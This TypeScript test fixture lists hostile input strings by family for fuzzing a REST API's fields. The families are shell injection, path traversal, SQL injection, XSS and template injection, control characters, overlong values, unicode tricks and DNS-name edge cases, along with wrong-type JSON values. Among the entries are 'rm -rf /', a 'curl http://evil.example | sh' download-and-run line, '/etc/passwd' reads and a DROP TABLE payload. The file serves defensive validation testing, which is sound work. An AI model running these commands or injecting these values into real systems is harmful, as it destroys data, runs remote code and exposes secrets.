/**
 * Malicious and awkward values, by family. Each is tried in every field of
 * the REST API and of the actions' inputs; the families name what a refusal
 * (or a safe acceptance) protects against, for the results table.
 */
export const HOSTILE_STRINGS: Record<string, string[]> = {
  shell: [
    '; rm -rf / #',
    '$(id)',
    '`id`',
    'a | cat /etc/passwd',
    'shop && curl http://evil.example | sh',
    "'; exec sh '",
  ],
  pathTraversal: [
    '../../etc/passwd',
    '..%2f..%2fetc%2fpasswd',
    '/etc/shadow',
    '..\\..\\windows\\win.ini',
    'store/../../kube-system',
  ],
  sql: [
    "' OR '1'='1",
    "'; DROP TABLE stores; --",
    '" OR 1=1 --',
    "shop' UNION SELECT * FROM sqlite_master --",
  ],
  html: [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '"><svg onload=alert(1)>',
    // eslint-disable-next-line no-script-url
    'javascript:alert(1)',
    '{{constructor.constructor("alert(1)")()}}',
    '${{ secrets.backstageToken }}',
  ],
  control: [
    'shop\u0000id',
    'line\r\nX-Injected: 1',
    '\u001b[31mred\u001b[0m',
    'tab\there',
    '\u007f',
  ],
  long: ['a'.repeat(41), 'b'.repeat(101), 'c'.repeat(2001), 'd'.repeat(20_000)],
  unicode: [
    'магазин',
    '店铺',
    'shop🛒',
    'ｓｈｏｐ',
    'shop\u202etxt.exe',
    'sh\u200bop',
    'ǅemo',
    '\ud800',
  ],
  dnsTricks: [
    '-shop',
    'shop-',
    'Shop',
    'dashboard',
    'api',
    'a',
    'ab',
    's.hop',
    's_hop',
    '',
  ],
};

/** Values of the wrong JSON type for a string field. */
export const WRONG_TYPES: unknown[] = [
  null,
  0,
  -1,
  1.5,
  true,
  [],
  ['shop'],
  {},
  { $ne: null },
  { toString: 'x' },
];

export const ALL_HOSTILE_STRINGS = Object.values(HOSTILE_STRINGS).flat();

/** Every hostile value with its family, for tables and test names. */
export function hostileValues(): Array<{ family: string; value: unknown }> {
  return [
    ...Object.entries(HOSTILE_STRINGS).flatMap(([family, values]) =>
      values.map(value => ({ family, value })),
    ),
    ...WRONG_TYPES.map(value => ({ family: 'wrongType', value })),
  ];
}
